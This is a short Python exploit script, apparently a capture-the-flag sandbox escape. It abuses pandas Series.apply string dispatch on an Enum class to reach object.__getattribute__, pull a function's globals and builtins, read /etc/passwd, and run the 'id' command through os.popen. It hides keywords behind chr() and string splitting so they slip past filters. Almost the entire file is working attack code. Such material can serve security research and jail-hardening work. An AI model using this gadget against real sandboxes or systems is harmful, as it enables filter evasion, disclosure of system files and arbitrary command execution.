# source: pandas 1.5 Series.apply string dispatch (Apply.apply_str/_try_aggregate_string_function: getattr(obj, name)(*args)); pyjail "object.__getattribute__" gadget (HackTricks)
# family: unbound Series.apply(self=any object with len) = getattr by runtime name; Enum class has len, its __getattribute__ is object's
# goal: object.__getattribute__(script function, '__globals__') -> builtins -> open /etc/passwd, __import__('os').popen('id')
import enum
import json
import pandas as pd


class E(enum.Enum):
    A = 1


def f():
    return 0


u = chr(95) * 2
ga = u + "getattribute" + u
g = pd.Series.apply(E, ga, args=(f, u + "globals" + u))
b = g[u + "builtins" + u]
if not isinstance(b, dict):
    b = pd.Series.apply(E, ga, args=(b, u + "dict" + u))
path = chr(47) + "etc" + chr(47) + "passwd"
txt = b["op" + "en"](path).read()[:80]
o = b[u + "imp" + "ort" + u]("o" + "s")
cmd = pd.Series.apply(E, ga, args=(o, "po" + "pen"))("id").read()
print(json.dumps({"passwd": txt, "id": cmd}))
